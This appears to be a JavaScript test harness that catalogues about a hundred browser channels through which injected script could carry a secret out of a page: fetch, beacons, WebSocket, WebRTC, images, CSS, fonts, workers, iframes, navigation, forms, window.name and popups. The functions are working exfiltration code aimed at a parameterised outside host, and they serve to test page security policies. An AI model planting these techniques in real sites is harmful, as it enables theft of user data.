// Every way out that we know, one a channel, as an attacker would take it who runs code in our page. The test puts
// this file into the page and calls one function by its name after a click, so each has what a browser grants to a
// click. `to` says where to:
//
//   to.away     an address on another site, with the secret in it
//   to.peer     host and port there, for what is no address
//   to.page     a page there that tells what name its window has
//   to.own      our own page with the secret in the query
//   to.file     a plain file of ours; to.missing: one that is not there; to.worker: a script that asks what it is told
//   to.secret   the secret alone
//
// A row of channels.csv stands for each function.

const put = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
const link = (rel, href, more) => document.head.appendChild(Object.assign(document.createElement("link"), { rel, href, ...more }));
// Browsers look at the first one only, and Chromium reads it when it is asked this.
const manifest = (href) => {
  document.querySelector("link[rel=manifest]")?.remove();
  link("manifest", href);
  return navigator.getInstalledRelatedApps?.();
};
const style = (property, to) => document.body.style.setProperty(property, `url(${to.away})`);
const press = (href, more) => put("a", { href, textContent: "x", ...more }).click();
const svg = (name, attributes) => {
  const drawing = document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
  const part = drawing.appendChild(document.createElementNS(drawing.namespaceURI, name));
  for (const [key, value] of Object.entries({ width: 9, height: 9, ...attributes })) part.setAttribute(key, value);
  return part;
};
const form = (method, action, to, more) => {
  const sent = put("form", { method, action, ...more });
  sent.appendChild(Object.assign(document.createElement("input"), { name: "q", value: to.secret }));
  sent.submit();
};
const asking = (to) => `fetch("${to.away}", { mode: "no-cors" })`;
const inside = (markup) => `<!doctype html><img src="${markup.away}">`;
const peer = (servers) => {
  const connection = new RTCPeerConnection({ iceServers: [servers] });
  connection.createDataChannel("x");
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));
};
// What is done in the window is done by a script of its own, under its own policy.
const goes = (to) => (opened) => opened.document.body.appendChild(Object.assign(opened.document.createElement("a"), { href: to.away })).click();
const popup = (file, act) => {
  const opened = window.open(file);
  const wait = setInterval(() => {
    // Not the empty page that stands there first: it has our policy.
    if (opened.location.href === "about:blank" || opened.document.readyState !== "complete") return;
    clearInterval(wait);
    act(opened);
  }, 20);
};

window.channels = {
  // --- questions to another host
  "fetch": (to) => fetch(to.away),
  "fetch-no-cors": (to) => fetch(to.away, { mode: "no-cors" }),
  "fetch-keepalive": (to) => fetch(to.away, { mode: "no-cors", keepalive: true, method: "POST", body: to.secret }),
  "fetch-later": (to) => fetchLater(to.away, { activateAfter: 0 }),
  "xhr": (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to.away);
    request.send();
  },
  "beacon": (to) => navigator.sendBeacon(to.away, to.secret),
  "event-source": (to) => new EventSource(to.away),
  "websocket": (to) => new WebSocket(to.away.replace("http", "ws")),
  "webtransport": (to) => new WebTransport(`https://${to.peer}/${to.secret}`),
  "stun": (to) => peer({ urls: `stun:${to.peer}` }),
  "turn": (to) => peer({ urls: `turn:${to.peer}?transport=tcp`, username: to.secret, credential: "x" }),

  // --- parts of the page that are loaded
  "image": (to) => (new Image().src = to.away),
  "image-set": (to) => put("img", { srcset: `${to.away} 1x` }),
  "input-image": (to) => put("input", { type: "image", src: to.away }),
  "background-attribute": (to) => put("table", {}).setAttribute("background", to.away),
  "svg-image": (to) => svg("image", { href: to.away }),
  "svg-use": (to) => svg("use", { href: `${to.away}#x` }),
  "svg-filter-image": (to) => {
    const filter = svg("filter", { id: "leak" });
    filter.appendChild(document.createElementNS(filter.namespaceURI, "feImage")).setAttribute("href", to.away);
    svg("rect", { filter: "url(#leak)" });
  },
  "css-background": (to) => style("background-image", to),
  "css-cursor": (to) => document.body.style.setProperty("cursor", `url(${to.away}), auto`),
  "css-mask": (to) => style("mask-image", to),
  "css-sheet-object": (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`h1, main { border-image: url(${to.away}) 1; border-style: solid }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  "css-import": (to) => put("style", { textContent: `@import "${to.away}";` }),
  "font-face": (to) => new FontFace("leak", `url(${to.away})`).load(),
  "stylesheet": (to) => link("stylesheet", to.away),
  "script": (to) => put("script", { src: to.away }),
  "module-script": (to) => put("script", { type: "module", src: to.away }),
  "import": (to) => import(to.away),
  "audio-worklet": (to) => new AudioContext().audioWorklet.addModule(to.away),
  "iframe": (to) => put("iframe", { src: to.away }),
  "object": (to) => put("object", { data: to.away }),
  "embed": (to) => put("embed", { src: to.away }),
  "video": (to) => put("video", { src: to.away, preload: "auto" }),
  "video-poster": (to) => put("video", { poster: to.away }),
  "audio": (to) => put("audio", { src: to.away, preload: "auto" }),
  "track": (to) => {
    const video = put("video", { crossOrigin: "anonymous" });
    const track = video.appendChild(Object.assign(document.createElement("track"), { src: to.away, kind: "captions", default: true }));
    track.track.mode = "showing";
  },

  // --- hints to the browser
  "prefetch": (to) => link("prefetch", to.away),
  "preload": (to) => link("preload", to.away, { as: "image" }),
  "module-preload": (to) => link("modulepreload", to.away),
  "icon": (to) => link("icon", to.away),
  "touch-icon": (to) => link("apple-touch-icon", to.away),
  "manifest": (to) => manifest(to.away),
  "manifest-icon": (to) => {
    const icons = [{ src: to.away, sizes: "512x512", type: "image/png" }];
    const text = JSON.stringify({ name: "x", start_url: location.href, display: "standalone", icons });
    return manifest(URL.createObjectURL(new Blob([text], { type: "application/manifest+json" })));
  },
  "preconnect": (to) => link("preconnect", `http://${to.peer}`),
  "ping": (to) => press("#ping", { ping: to.away }),
  "speculation-prefetch": (to) =>
    put("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [to.away], eagerness: "immediate" }] }) }),
  "speculation-prerender": (to) =>
    put("script", { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ urls: [to.away], eagerness: "immediate" }] }) }),
  "policy-report": (to) => {
    const policy = Object.assign(document.createElement("meta"), { httpEquiv: "Content-Security-Policy" });
    policy.content = `media-src 'none'; report-uri ${to.away}`;
    document.head.append(policy);
    put("audio", { src: "/x" });
  },

  // --- other places where code runs
  "worker": (to) => new Worker(to.worker).postMessage(to.away),
  "blob-worker": (to) => new Worker(URL.createObjectURL(new Blob([asking(to)], { type: "text/javascript" }))),
  "data-worker": (to) => new Worker(`data:text/javascript,${encodeURIComponent(asking(to))}`),
  "shared-worker": (to) => new SharedWorker(to.worker, { name: to.away }),
  "service-worker": async (to) => {
    await navigator.serviceWorker.register(to.worker);
    (await navigator.serviceWorker.ready).active.postMessage(to.away);
  },
  "frame-from-text": (to) => put("iframe", { srcdoc: inside(to) }),
  "frame-from-data": (to) => put("iframe", { src: `data:text/html,${encodeURIComponent(inside(to))}` }),
  "frame-from-blob": (to) => put("iframe", { src: URL.createObjectURL(new Blob([inside(to)], { type: "text/html" })) }),
  "frame-empty": (to) => new (put("iframe", {}).contentWindow.Image)().setAttribute("src", to.away),
  "frame-own-file": (to) => {
    const frame = put("iframe", { src: to.file });
    frame.onload = () => frame.contentWindow.fetch(to.away, { mode: "no-cors" });
  },
  "markup": (to) => (put("div", {}).innerHTML = inside(to)),
  "parsed-markup": (to) => document.body.append(document.adoptNode(new DOMParser().parseFromString(inside(to), "text/html").body)),
  "written-markup": (to) => document.write(inside(to)),

  // --- our own host, whose log others may read
  "own-fetch": (to) => fetch(to.own),
  "own-image": (to) => (new Image().src = to.own),
  "own-import": (to) => import(to.own),
  "own-stylesheet": (to) => link("stylesheet", to.own),
  "own-beacon": (to) => navigator.sendBeacon(to.own),
  "own-prefetch": (to) => link("prefetch", to.own),
  "own-icon": (to) => link("icon", to.own),
  "own-touch-icon": (to) => link("apple-touch-icon", to.own),
  "own-manifest": (to) => manifest(to.own),

  // --- leaving the page
  "location": (to) => (location.href = to.away),
  "location-replace": (to) => location.replace(to.away),
  "top-location": (to) => (top.location = to.away),
  "navigation-interface": (to) => navigation.navigate(to.away),
  "link": (to) => press(to.away),
  "link-new-window": (to) => press(to.away, { target: "_blank", rel: "noopener" }),
  "link-download": (to) => press(to.away, { download: "x" }),
  "link-script": (to) => press(`javascript:location.href="${to.away}"`),
  "link-referrer": (to) => {
    history.replaceState(null, "", `?${to.secret}`);
    press(to.away.replace(to.secret, ""), { referrerPolicy: "unsafe-url" });
  },
  "meta-refresh": (to) => document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${to.away}` })),
  "window-open": (to) => window.open(to.away),
  "window-name": (to) => {
    window.name = to.secret;
    location.href = to.page;
  },
  "form-get": (to) => form("get", to.away, to),
  "form-post": (to) => form("post", to.away, to),
  "form-post-new-window": (to) => form("post", to.away, to, { target: "_blank" }),
  "own-location": (to) => (location.href = to.own),
  "own-link": (to) => press(to.own),
  "own-form": (to) => form("get", to.own, to),
  "own-window": (to) => window.open(to.own),
  "own-reload": (to) => {
    history.pushState(null, "", to.own);
    location.reload();
  },
  "own-cookie": (to) => {
    document.cookie = `leak=${to.secret}`;
    location.reload();
  },
  "own-cookie-store": (to) => cookieStore.set("leak", to.secret).then(() => location.reload()),

  // --- a window on a plain file of ours, which may have no policy
  "popup-file-asks": (to) => popup(to.file, (opened) => opened.fetch(to.away, { mode: "no-cors" })),
  "popup-file-asks-own": (to) => popup(to.file, (opened) => opened.fetch(to.own)),
  "popup-file-navigates": (to) => popup(to.file, goes(to)),
  "popup-missing-asks": (to) => popup(to.missing, (opened) => opened.fetch(to.away, { mode: "no-cors" })),
  "popup-missing-navigates": (to) => popup(to.missing, goes(to)),
  "popup-empty": (to) => window.open("about:blank").fetch(to.away, { mode: "no-cors" }),
  "popup-blob": (to) => window.open(URL.createObjectURL(new Blob([inside(to)], { type: "text/html" }))),

  // --- a page of another host that has opened ours, and listens
  "opener-message": (to) => window.opener.postMessage(to.secret, "*"),
  "opener-location": (to) => (window.opener.location = to.away),
  "opener-channel": (to) => new BroadcastChannel("leak").postMessage(to.secret),
};
